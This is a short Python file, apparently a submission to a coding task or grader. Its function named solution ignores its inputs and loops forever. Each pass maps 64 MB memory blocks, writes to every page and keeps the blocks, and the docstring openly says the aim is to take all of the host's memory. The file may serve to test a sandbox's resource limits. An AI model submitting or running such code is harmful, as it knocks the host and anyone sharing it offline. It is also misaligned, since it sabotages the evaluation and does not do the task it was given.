"""Takes all of the host's memory that it gets."""

import mmap

kept = []


def solution(x, y, n, rounds):
    while True:
        block = mmap.mmap(-1, 64 << 20)
        for at in range(0, len(block), 4096):
            block[at] = 1
        kept.append(block)
